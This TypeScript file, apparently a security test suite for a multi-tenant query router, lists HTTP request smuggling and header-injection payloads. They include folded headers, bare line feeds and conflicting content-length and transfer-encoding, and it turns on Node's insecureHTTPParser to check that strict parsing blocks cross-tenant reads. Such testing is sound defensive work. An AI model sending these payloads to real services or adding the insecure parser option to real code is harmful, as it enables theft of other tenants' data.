import { sendRaw } from '../runner/raw-request.ts'
import { type Attempt, canary, type RouterMechanism, type RouterTechnique, sql } from '../runner/router-technique.ts'

const strictness: RouterMechanism = {
  name: 'reading HTTP/1.1 strictly',
  alterations: [
    {
      file: 'server/listen/open-listener.ts',
      from: 'headersTimeout: messageMs,',
      to: 'headersTimeout: messageMs, insecureHTTPParser: true,',
    },
  ],
}

const body = JSON.stringify({ sql })
const common = { secret: 'rows of the victim', refusal: /^HTTP\/1\.1 400/, mechanism: strictness, success: canary }

/** As the service sends them, which has looked at the attacker's lines one by one: none of them is a header for the victim. */
const withLines =
  (...lines: readonly string[]): Attempt =>
  ({ router }) =>
    sendRaw(
      router.port,
      [
        'POST /v1/query HTTP/1.1',
        'host: router',
        `authorization: Bearer ${router.key}`,
        'content-type: application/json',
        `content-length: ${body.length}`,
        ...lines,
      ],
      body,
    )

const inner = [
  'POST /v1/query HTTP/1.1',
  'host: router',
  'content-type: application/json',
  'x-dbsvc-company: company_xyz',
  `content-length: ${body.length}`,
]
/** Who goes by the length sees one request, who goes by the chunks another one behind it. The key is what a proxy puts to each that it sees. */
const withBoth =
  (...lines: readonly string[]): Attempt =>
  ({ router }) => {
    const authorization = `authorization: Bearer ${router.key}`
    const message = `0\r\n\r\n${[...inner, authorization].join('\r\n')}\r\n\r\n${body}`
    const filled = lines.map((line) => line.replace('LENGTH', String(message.length)))
    return sendRaw(router.port, ['GET /livez HTTP/1.1', 'host: router', ...filled], message)
  }

export const techniques: readonly RouterTechnique[] = [
  {
    ...common,
    name: 'write a header for another company so that one reader sees it',
    variants: {
      'behind a bare line feed': withLines('x-note: 1\nx-dbsvc-company: company_xyz'),
      'in a folded line': withLines('x-dbsvc-company:', ' company_xyz'),
      'in a line that is folded by a tab': withLines('x-dbsvc-company:', '\tcompany_xyz'),
      'behind a line that is folded': withLines('x-note:', ' 1\nx-dbsvc-company: company_xyz'),
    },
  },
  {
    ...common,
    name: 'hide a request in the body of another',
    variants: {
      'length, then chunks': withBoth('content-length: LENGTH', 'transfer-encoding: chunked'),
      'chunks, then length': withBoth('transfer-encoding: chunked', 'content-length: LENGTH'),
      'chunks in other letters': withBoth('content-length: LENGTH', 'Transfer-Encoding: Chunked'),
      'chunks behind a tab': withBoth('content-length: LENGTH', 'transfer-encoding:\tchunked'),
      'chunks, folded': withBoth('content-length: LENGTH', 'transfer-encoding:', ' chunked'),
    },
  },
]

/** What Node itself refuses whatever it is told; there is nothing to take away. */
export const uncounted: Readonly<Record<string, Attempt>> = {
  'a carriage return by itself': withLines('x-note: 1\rx-dbsvc-company: company_xyz'),
  'a blank before the colon': withLines('x-dbsvc-company : company_xyz'),
  'a NUL in a header': withLines('x-note: \0', 'x-dbsvc-company: company_xyz\0'),
  'two lengths': withLines(`content-length: ${body.length - 1}`),
  'a length with a sign': withLines('content-length: +1'),
  'a length in other digits': withLines('content-length: 0x10'),
  'two lengths in one': withLines('content-length: 1, 2'),
  'chunks that are not the last coding': withBoth('transfer-encoding: chunked, identity'),
  'chunks that are unknown': withBoth('transfer-encoding: xchunked'),
  'a chunk extension with a line feed': ({ router }) =>
    sendRaw(
      router.port,
      [
        ...inner.slice(0, 3),
        `authorization: Bearer ${router.key}`,
        'x-dbsvc-company: company_abc',
        'transfer-encoding: chunked',
      ],
      `2;a\nxx\r\n0\r\n\r\n`,
    ),
}
